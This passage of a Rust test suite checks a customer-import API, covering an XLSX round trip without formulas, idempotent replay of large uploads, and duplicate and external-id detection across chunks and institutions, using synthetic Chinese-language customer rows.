            formulas.used_cells().all(|(_, _, f)| f.is_empty()),
            "{formulas:?}"
        );
        let range = book.worksheet_range("客户").unwrap();
        let sheet: Vec<Vec<calamine::Data>> = range.rows().map(<[_]>::to_vec).collect();
        let header: Vec<String> = sheet[0].iter().map(|d| d.to_string()).collect();
        let at = |name: &str| header.iter().position(|h| h == name).unwrap();
        let after: Vec<Value> = (0..FORMULAS.len())
            .map(|i| by_external(srv, &sup, &format!("F{i}")))
            .collect();
        for (i, c) in after.iter().enumerate() {
            let row = sheet
                .iter()
                .find(|r| r[at("外部编号")] == calamine::Data::String(format!("F{i}")))
                .unwrap();
            for (field, value) in fields(c) {
                let header = match field {
                    "name" => "姓名",
                    "street" => "地址",
                    "occupation" => "职业",
                    "tags" => "标签",
                    _ => "备注",
                };
                assert_eq!(
                    row[at(header)],
                    calamine::Data::String(value.clone()),
                    "{field} of F{i}"
                );
            }
        }
        let r = import(srv, &sup, "?mode=valid_rows", XLSX, res.body).report();
        assert_eq!(counts(&r), (6, 0, 6, 0));
        for (i, before) in after.iter().enumerate() {
            let again = by_external(srv, &sup, &format!("F{i}"));
            assert_eq!(
                fields(before),
                fields(&again),
                "F{i} after the XLSX round trip"
            );
        }
    });
}

/// X-8 with a large import: an `Idempotency-Key` on an import of more than actix's default
/// 256 KiB payload limit is handled and replayed, not refused with 413 by the idempotency
/// layer that reads the body first.
#[test]
fn an_idempotent_import_may_be_as_large_as_any_import() {
    each_backend(|srv| {
        let sup = supervisor(srv);
        let mut lines = vec!["姓名,手机,外部编号,备注".to_string()];
        for i in 0..3000 {
            lines.push(format!(
                "客户{i},139{i:08},BIG{i},{}",
                "备注文字".repeat(10)
            ));
        }
        let refs: Vec<&str> = lines.iter().map(String::as_str).collect();
        let file = csv(&refs);
        assert!(file.len() > 300 * 1024, "{}", file.len());
        let send = || {
            srv.raw(
                "POST",
                "/api/v1/customers/import?dry_run=true",
                Some(&sup),
                &[("Idempotency-Key", "big-import-1")],
                Some((CSV, String::from_utf8(file.clone()).unwrap())),
            )
        };
        let first = send();
        assert_eq!(first.status, 200, "{}", first.body);
        assert_eq!(first.body["total_rows"], 3000);
        let again = send();
        assert_eq!(again.status, 200, "{}", again.body);
        assert_eq!(again.header("idempotent-replayed"), Some("true"));
    });
}

/// CUS-13 / CUS-10: an import checks its rows in chunks (one query per chunk for the phones,
/// ID numbers and external ids, not three per row); what a row is compared with does not
/// depend on the chunk it falls in: earlier rows of the file in any chunk, the live customers
/// of the caller's scope (not another institution's), the external ids of live customers (an
/// update) and of deleted ones (refused).
#[test]
fn a_large_import_finds_duplicates_and_external_ids_in_every_chunk_within_the_scope() {
    each_backend(|srv| {
        let admin = srv.admin();
        let a = srv.institution(&admin, "BJ01", true);
        let b = srv.institution(&admin, "BJ02", true);
        srv.user(&admin, "sup.a", &["supervisor"], &a);
        srv.user(&admin, "sup.b", &["supervisor"], &b);
        let (sup_a, sup_b) = (
            srv.login("sup.a", "Passw0rd-x"),
            srv.login("sup.b", "Passw0rd-x"),
        );
        let known = csv(&[
            "姓名,类型,证件号码,手机,外部编号",
            "王芳,散客,11010519491231002X,13800000001,P1",
            "李四,散客,,13800000002,P2",
            "某某公司,团体客户,,13800000003,P3",
        ]);
        assert_eq!(
            counts(&import(srv, &sup_a, "", CSV, known).report()),
            (3, 3, 0, 0)
        );
        let other = csv(&["姓名,手机", "外院客户,13900000700"]);
        assert_eq!(
            counts(&import(srv, &sup_b, "", CSV, other).report()),
            (1, 1, 0, 0)
        );
        let li = by_external(srv, &sup_a, "P2");
        let path = format!("/api/v1/customers/{}", li["id"].as_str().unwrap());
        let version = format!("\"{}\"", li["version"]);
        assert_eq!(
            srv.raw(
                "DELETE",
                &path,
                Some(&sup_a),
                &[("If-Match", &version)],
                None
            )
            .status,
            204
        );

        // 1,200 rows: the planted ones at rows 2, 3, 4, 700, 900, 1100, 1150 and 1180.
        let mut lines = vec!["姓名,类型,证件号码,手机,外部编号".to_string()];
        for row in 2..=1201u32 {
            lines.push(match row {
                2 => "王芳,散客,,13800000001,P1".into(),
                3 => "李四,散客,,13800000002,P2".into(),
                4 => "某某公司,散客,,13800000003,P3".into(),
                700 => "王芳,散客,,13800000001,P1".into(),
                900 => "重复,散客,,13700000010,".into(),
                1100 => "同号,散客,,13800000001,".into(),
                1150 => "外院同号,散客,,13900000700,".into(),
                1180 => "同证,散客,11010519491231002x,,".into(),
                _ => format!("客户{row},散客,,137{row:08},"),
            });
        }
        let lines: Vec<&str> = lines.iter().map(String::as_str).collect();
        let r = import(
            srv,
            &sup_a,
            "?mode=valid_rows&dry_run=true",
            CSV,
            csv(&lines),
        )
        .report();
        assert_eq!(
            problems(&r),
            vec![
                p(3, "external_id", "duplicate"),
                p(4, "kind", "kind_change"),
                p(700, "external_id", "duplicate_in_file"),
                p(900, "phones", "possible_duplicate"),
                p(1100, "phones", "possible_duplicate"),
                p(1180, "id_number", "possible_duplicate"),
            ],
            "{r}"
        );
        // Row 2 updates 王芳; 1,193 rows would be created, the other institution's phone too.
        assert_eq!(counts(&r), (1200, 1193, 1, 6));
        assert_eq!(r["valid_rows"], 1194);
        assert_eq!(customers(srv, &sup_a, "")["total"], 2);
    });
}
